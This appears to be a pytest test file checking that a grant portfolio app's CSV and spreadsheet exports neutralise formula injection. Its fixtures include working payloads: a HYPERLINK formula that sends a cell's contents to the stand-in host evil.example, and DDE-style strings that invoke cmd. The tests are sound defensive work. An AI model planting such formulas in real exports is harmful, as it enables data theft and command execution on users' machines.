"""Spreadsheet formula injection (issue 16): text that a spreadsheet would run
as a formula is neutralised in the CSV and in both spreadsheets; numbers stay
numbers."""
from __future__ import annotations

import csv

import pytest
from openpyxl import load_workbook

from grantflow.extensions import db
from grantflow.portfolio.cells import neutralised
from grantflow.portfolio.exports import run_export
from grantflow.portfolio.filters import PortfolioFilters
from tests.factories_portfolio import create_case

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&M2,"County details")'
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value, expected", [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("City of Des Moines", "City of Des Moines"),
    ("A = B", "A = B"),
    ("", ""),
    (None, None),
    ("-12.50", "-12.50"),  # a negative amount in a CSV is a number, not a formula
    ("+7", "+7"),
    (-12, -12),
    (3.5, 3.5),
])
def test_the_owasp_rule(value, expected):
    assert neutralised(value) == expected


@pytest.fixture
def poisoned(f):
    """An awarded grant per payload, each in the organisation name and the title."""
    for payload in PAYLOADS:
        org = f.create_organisation(name=payload)
        create_case(state="active", awarded=2_000_000, paid=(1_000_000,), organisation=org, title=payload)  # accepted
    db.session.commit()


def _assert_safe(values):
    for value in values:
        if isinstance(value, str) and value:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), repr(value)


def test_csv_cells_are_neutralised(poisoned, tmp_path):
    run_export("csv", tmp_path / "p.csv", PortfolioFilters())
    with open(tmp_path / "p.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert {r["Organization"] for r in rows} == {"'" + p for p in PAYLOADS}
    assert {r["Project title"] for r in rows} == {"'" + p for p in PAYLOADS}
    for row in rows:
        _assert_safe(row.values())
        assert row["Amount awarded (USD)"] == "20000.00"


@pytest.mark.parametrize("fmt, sheet, name_column, amount_column", [
    ("xlsx", "Portfolio", "Organization", "Amount awarded (USD)"),
    ("360giving-xlsx", "grants", "Recipient Org:Name", "Amount Awarded"),
])
def test_spreadsheet_cells_hold_text_not_formulas(poisoned, tmp_path, fmt, sheet, name_column, amount_column):
    run_export(fmt, tmp_path / "p.xlsx", PortfolioFilters())
    worksheet = load_workbook(tmp_path / "p.xlsx")[sheet]
    rows = list(worksheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    names, amounts = header.index(name_column), header.index(amount_column)
    # XML reads a carriage return back as a newline
    assert {row[names].value for row in rows[1:]} == {"'" + p.replace("\r", "\n") for p in PAYLOADS}
    for row in rows[1:]:
        assert all(cell.data_type != "f" for cell in row)
        _assert_safe(cell.value for cell in row)
        assert row[amounts].data_type == "n" and row[amounts].value == 20000
